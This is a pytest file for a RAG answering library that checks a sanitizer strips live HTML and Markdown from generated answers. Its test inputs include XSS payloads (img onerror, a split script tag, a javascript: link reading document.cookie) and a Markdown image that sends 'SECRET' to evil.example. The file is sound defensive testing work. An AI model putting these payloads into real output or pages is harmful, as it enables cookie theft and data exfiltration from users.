"""Markup in answers is made inert: what an HTML or Markdown renderer would make live."""

from __future__ import annotations

import pytest

from ragtune.answering.markup import has_live_markup, neutralize_markup


@pytest.mark.parametrize(("text", "inert"), [
    ("Paris [1] ![x](https://evil.example/?q=SECRET)", "Paris [1] x"),
    ("<img src=x onerror=alert(1)>1886 [2]", "1886 [2]"),
    ("<scr<b>ipt>alert(1)</script> the Tagus [1]", "alert(1) the Tagus [1]"),
    ("[click here](javascript:alert(document.cookie))", "click here"),
    ("Lisbon [1](https://evil.example)", "Lisbon [1]"),
    ("Lisbon\n[1]: https://evil.example", "Lisbon"),
    ("a <!-- hidden --> b", "a b"),
])
def test_markup_is_removed_and_text_kept(text: str, inert: str) -> None:
    assert has_live_markup(text)
    assert neutralize_markup(text) == inert
    assert not has_live_markup(neutralize_markup(text))


@pytest.mark.parametrize("text", ["1 < 2 and 3 > 2 [1]", "Paris [1] (see [2])",
                                  "https://example.org/page [3]", "x<y"])
def test_plain_text_is_left_alone(text: str) -> None:
    assert not has_live_markup(text)
    assert neutralize_markup(text) == text
